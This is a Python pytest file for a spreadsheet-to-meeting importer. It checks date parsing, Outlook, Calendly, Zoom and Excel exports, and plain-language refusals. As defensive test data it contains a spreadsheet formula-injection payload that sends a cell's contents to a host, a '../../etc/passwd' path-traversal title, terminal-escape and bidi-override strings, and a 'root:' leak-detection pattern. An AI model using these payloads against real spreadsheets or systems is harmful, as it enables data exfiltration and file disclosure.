"""Spreadsheets as people really export them: each read rightly, or refused in a sentence that says what to do.

The corpus lies beside the checkout or where BULKMEET_CORPUS says. Its README has a table of what should happen,
and the tests here follow it row by row.
"""

import os
import re
import resource
import time
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest

from bulkmeet.errors import UnreadableFile
from bulkmeet.examine import Examined, examine
from bulkmeet.model import Host, Status
from bulkmeet.results.rows import result_cells
from bulkmeet.settings import Settings
from tests.sheets import NEW_YORK, emails, errors, meetings, message, messages, only, shown, statuses, warnings

CORPUS = Path(os.environ.get("BULKMEET_CORPUS", Path(__file__).parents[2] / "shared" / "corpus"))
pytestmark = pytest.mark.skipif(not CORPUS.is_dir(), reason=f"no corpus at {CORPUS}; set BULKMEET_CORPUS")

EARLY_2026 = datetime(2026, 1, 5, tzinfo=UTC).timestamp()
JO = Host(email="jo@example.com")
ABOUT = {"README.md", "MANIFEST.tsv", "SYNONYMS.tsv"}
FILES = sorted(
    path.relative_to(CORPUS).as_posix()
    for path in CORPUS.rglob("*")
    if path.is_file() and path.name not in ABOUT and path.parent.name != "LICENSES"
)


def read(name: str, **options: Any) -> Examined:
    path = CORPUS / name
    return examine(path, path, Settings(**{"timezone": NEW_YORK, "host": JO, **options}), EARLY_2026, lambda _: {})


def refusal(name: str, **options: Any) -> str:
    with pytest.raises(UnreadableFile) as stop:
        read(name, **options)
    return str(stop.value)


def when(name: str, **options: Any) -> list[tuple[str, str, int]]:
    """Title, start in New York and minutes of each meeting that would be sent."""
    return [
        (meeting.title, shown(meeting.start), (meeting.end - meeting.start) // 60)
        for meeting in meetings(read(name, **options))
    ]


# ---- the table of the corpus -------------------------------------------------------------------------------


def test_ambiguous_dates_are_refused_until_an_order_is_given() -> None:
    name = "made/ambiguous_dates.csv"
    found = read(name)
    assert errors(found.issues) == [("date_ambiguous", f"B{row}") for row in (2, 3, 4)]
    assert not meetings(found)
    assert when(name, date_order="dmy")[0] == ("A", "2026-04-03 09:30", 60)
    assert when(name, date_order="mdy")[0] == ("A", "2026-03-04 09:30", 60)
    assert [minutes for *_, minutes in when(name, date_order="mdy")] == [60, 90, 45]


def test_outlook_en_gb_is_day_first_by_its_whole_column() -> None:
    assert when("made/outlook_en-GB.csv", timezone="Europe/London") == [
        ("Board", "2026-12-31 15:00", 630),
        ("Review", "2027-01-10 09:00", 60),
    ]


def test_a_workbook_made_on_an_old_mac_has_its_meetings_in_2026() -> None:
    assert when("made/mac1904.xlsx") == [("A", "2026-11-02 09:00", 30)]


def test_both_columns_called_debut_are_used() -> None:
    name = "made/outlook_fr_duplicate_headers.csv"
    assert errors(read(name).issues) == [("date_ambiguous", "B2"), ("date_ambiguous", "D2")]
    assert when(name, date_order="dmy") == [("Réunion d'équipe", "2026-05-12 19:10", 50)]


def test_outlook_en_us() -> None:
    found = read("made/outlook_en-US.csv", date_order="mdy")
    assert statuses(found) == {2: Status.PENDING, 3: Status.SKIPPED, 4: Status.SKIPPED}
    assert messages(found)[3].startswith("Not sent: an all-day entry")
    assert messages(found)[4] == "Not sent: its title says it is cancelled."
    meeting = only(found)
    assert (meeting.title, shown(meeting.start)) == ("Project sync \u2013 Q3", "2026-03-04 10:00")
    assert [person.name for person in meeting.participants] == ["Ana Ruiz", "Chen Li", "Okafor, Ben", "Dana Park"]
    assert [code for code, _ in warnings(found.issues)].count("attendee_without_email") == 4


def test_calendly_is_one_meeting_of_two_invitees_and_two_guests() -> None:
    found = read("made/calendly_events.csv", host=None)
    meeting = only(found)
    assert meeting.rows == (2, 3)
    assert sorted(map(str, emails(meeting))) == [
        "ann@example.com",
        "bea@example.com",
        "bob@example.com",
        "cy@example.com",
    ]
    assert (shown(meeting.start), meeting.host) == ("2026-03-03 11:00", JO)
    assert statuses(found)[4] is Status.SKIPPED
    assert "cancelled" in messages(found)[4]
    assert not errors(found.issues)


def test_bookings_in_two_files_pasted_together_are_two_meetings() -> None:
    found = read("made/bookings_concatenated.tsv", date_order="mdy", host=None)
    assert [(meeting.rows, shown(meeting.start)) for meeting in meetings(found)] == [
        ((2, 3), "2026-05-11 09:00"),
        ((5,), "2026-05-12 09:00"),
    ]
    assert ("repeated_header", 4) in warnings(found.issues)
    assert emails(meetings(found)[0]) == ["ann@example.com", "cc1@example.com", "cc2@example.com", "bea@example.com"]


def test_a_log_of_past_attendance_is_no_schedule() -> None:
    assert "this is a log of past attendance, not a schedule" in refusal(
        "made/zoom_participants_with_meeting_block.csv"
    )


def test_eventbrite_has_neither_title_nor_start_nor_end() -> None:
    assert "holds a title, none a start, none an end or a duration;" in refusal("made/eventbrite_attendees.csv")


def test_webex_ends_before_it_starts() -> None:
    found = read("made/webex_timetable_end_before_start.csv", allow_past=True)
    assert errors(found.issues) == [("end_before_start", "F2")]
    assert statuses(found) == {2: Status.INVALID}


def test_the_kitchen_sink() -> None:
    found = read("made/kitchen_sink.xlsx")
    assert (found.sheet.header_row, (found.sheet.name or "").strip()) == (4, "Meetings FY26")
    kickoff, review, hidden = meetings(found)
    assert (kickoff.rows, review.rows, hidden.rows) == ((5, 6, 7), (9,), (11,))
    assert emails(kickoff) == ["ann@example.com", "ben@example.com", "cy@example.com"]
    assert {meeting.host for meeting in (kickoff, review, hidden)} == {Host(user_id="5123456789012345")}
    assert errors(found.issues) == [("unreadable_cell", "B10"), ("duration_unclear", "E10")]
    assert statuses(found)[10] is Status.INVALID
    said = dict(warnings(found.issues))
    assert "row 11" in message(found.issues, "hidden_rows")
    assert said["totals_row"] == 12
    assert said["id_may_be_rounded"] == "F10"
    assert "Lookups" not in message(found.issues, "other_sheets")


@pytest.mark.parametrize(
    ("name", "title"), [("excel_sep_line.csv", "Kickoff"), ("excel_unicode_text.txt", "Żółw \u2013 plan")]
)
def test_what_excel_exports_as_text_is_read(name: str, title: str) -> None:
    meeting = only(read(f"made/{name}"))
    assert (meeting.title, shown(meeting.start)) == (title, "2026-04-03 09:30")
    assert emails(meeting) == ["a@example.com", "b@example.com"]


def test_every_date_of_the_zoo_is_read_exactly_or_refused() -> None:
    found = read("made/date_text_zoo.csv", duration=1800)
    assert {meeting.title: shown(meeting.start, "UTC") for meeting in meetings(found)} == {
        "ISO Z": "2026-09-10 01:00",
        "ISO offset": "2026-09-10 01:00",
        "epoch s": "2026-09-10 00:26",
        "epoch ms": "2026-09-10 00:26",
        "excel serial": "2026-09-10 14:00",
        "long": "2026-09-10 14:00",
        "RFC": "2026-09-10 08:00",
        "JS": "2026-09-10 14:00",
        "fr": "2026-09-10 14:00",
        "de": "2026-09-10 14:00",
    }
    assert errors(found.issues) == [
        ("date_ambiguous", "B12"),
        ("zone_abbreviation_wrong", "B13"),
        ("date_ambiguous", "B14"),
        ("date_range", "B15"),
        ("title_says_nothing", "A16"),
        ("date_undecided", "B16"),
        ("date_unreadable", "B17"),
    ]
    assert "EDT, not EST" in message(found.issues, "zone_abbreviation_wrong")
    month_first = {
        meeting.title: shown(meeting.start)
        for meeting in meetings(read("made/date_text_zoo.csv", duration=1800, date_order="mdy"))
    }
    assert (month_first["2-digit"], month_first["narrow nbsp"]) == ("2026-09-10 10:00", "2026-09-10 10:00")


def test_a_google_calendar_file_is_told_once_how_to_give_a_host() -> None:
    name = "made/google_calendar_import.csv"
    found = read(name, host=None, duration=1800)
    assert [(issue.code, issue.row) for issue in found.issues] == [("host_missing", None)]
    assert "--host" in found.issues[0].message
    assert statuses(found) == {2: Status.INVALID, 3: Status.INVALID}
    assert when(name) == [("Final exam", "2026-05-30 10:00", 180)]
    assert errors(read(name).issues) == [("end_missing", "D3")]


def test_formulas_reach_the_api_as_the_texts_they_are() -> None:
    found = read("made/formula_injection.csv")
    assert [meeting.title for meeting in meetings(found)] == [
        '=HYPERLINK("http://127.0.0.1/?x="&A1,"click")',
        "\t=1+1",
        "'=10530",
        "- dash title",
    ]
    assert meetings(found)[0].participants[0].phone == "+14155550100"
    assert errors(found.issues) == [("phone_malformed", "E3"), ("phone_malformed", "E4")]


def test_escapes_and_bidi_overrides_reach_no_message() -> None:
    found = read("made/terminal_escape_and_bidi.csv")
    said = [issue.message + (issue.value or "") for issue in found.issues] + list(messages(found).values())
    assert all(text.isprintable() and "\u202e" not in text for text in said)
    assert meetings(found)[0].title.startswith("\x1b[2J"), "the API gets the title as it stands"
    assert errors(found.issues) == [("email_malformed", "D4")]
    assert meetings(found)[-1].title == "../../etc/passwd"


def test_files_that_are_not_what_their_names_say_are_told_apart() -> None:
    web_page, protected = refusal("made/html_table_named.xls"), refusal("xlsx/pass_protected.xlsx")
    assert "web page" in web_page
    assert "password" in protected
    assert when("made/csv_named.xlsx") == [("A", "2026-09-10 10:00", 60)]


@pytest.mark.parametrize(
    ("name", "sentence"),
    [
        ("made/zero_bytes.csv", "The file is empty"),
        ("made/header_only.csv", "no rows under them"),
        ("made/no_newline_cr_only_quote_open.csv", "is never closed"),
        ("xlsx/SampleSS.strict.xlsx", "“First Sheet” and “Sheet Number 2”; name one"),
    ],
)
def test_what_cannot_be_read_is_said_plainly(name: str, sentence: str) -> None:
    assert sentence in refusal(name)


def test_a_workbook_that_lies_about_its_size_has_two_rows() -> None:
    found = read("hostile/dimension_lie_small.xlsx", duration=1800, allow_past=True)
    assert len(found.sheet.rows) == 2


def test_zooms_own_sheets_of_hours_and_minutes() -> None:
    found = read("meetings/[DUMMY] Zoom Meeting Information.xlsx", allow_past=True, host=None)
    assert not errors(found.issues)
    assert all(meeting.host.email for meeting in meetings(found))
    assert len(meetings(found)) == 4


# ---- every file --------------------------------------------------------------------------------------------


@pytest.mark.parametrize("name", FILES)
def test_every_file_is_read_or_refused_in_one_plain_sentence(name: str) -> None:
    began = time.perf_counter()
    try:
        found = read(name)
    except UnreadableFile as stop:
        said = str(stop)
        assert said.endswith(".")
        assert said.isprintable()
        assert not re.search(r"root:|Traceback|Error\b|\bNone\b", said)
    else:
        assert "root:" not in str(found.sheet), "no file named in a workbook is opened"
        assert {len(row.cells) for row in found.sheet.rows} == {len(found.sheet.headers)}
        assert set(result_cells(part.result for part in found.parts)) == {row.number for row in found.sheet.rows}
        assert found.parts, "never 0 meetings, all fine"
    assert time.perf_counter() - began < 10
    assert resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss < 500 * 1024, "more than 500 MB"
